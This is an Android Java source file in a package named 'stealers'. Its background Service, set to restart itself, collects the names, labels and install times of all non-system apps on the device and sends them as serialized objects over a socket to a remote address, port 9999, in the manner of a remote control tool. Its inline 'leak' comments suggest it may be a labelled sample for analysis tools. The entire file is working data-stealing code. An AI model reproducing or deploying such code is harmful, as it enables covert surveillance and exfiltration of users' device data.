package stealers;

import android.app.*;
import android.content.*;
import android.content.pm.*;
import android.os.IBinder;

import java.io.*;
import java.net.Socket;
import java.util.*;

/** Objects that are written whole: the list of apps, as remote control tools send it. */
public class Programs extends Service {
    static class Packet implements Serializable {
        final int kind;
        final Object what;

        Packet(int kind, Object what) {
            this.kind = kind;
            this.what = what;
        }
    }

    static class Entry implements Serializable {
        String name, label;
        long since;
    }

    static class Mux {
        private final ObjectOutputStream out;

        Mux(Socket s) throws IOException {
            out = new ObjectOutputStream(s.getOutputStream());
        }

        synchronized void send(Packet p) throws IOException {
            out.writeObject(p); // leak
            out.flush();
        }

        synchronized void plain(Packet p) throws IOException {
            out.writeObject(p); // no leak
            out.reset();
        }
    }

    public IBinder onBind(Intent i) {
        return null;
    }

    @Override
    public int onStartCommand(Intent i, int f, int id) {
        new Thread() {
            public void run() {
                try {
                    Mux m = new Mux(new Socket("10.0.0.2", 9999));
                    m.plain(new Packet(0, "hello"));
                    m.send(new Packet(1, list()));
                } catch (IOException e) {
                }
            }
        }.start();
        return START_STICKY;
    }

    ArrayList<Entry> list() {
        ArrayList<Entry> all = new ArrayList<Entry>();
        PackageManager pm = getPackageManager();
        for (PackageInfo p : pm.getInstalledPackages(0)) {
            if ((p.applicationInfo.flags & ApplicationInfo.FLAG_SYSTEM) != 0) continue;
            Entry e = new Entry();
            e.name = p.packageName;
            e.label = p.applicationInfo.loadLabel(pm).toString();
            e.since = p.firstInstallTime;
            all.add(e);
        }
        return all;
    }
}
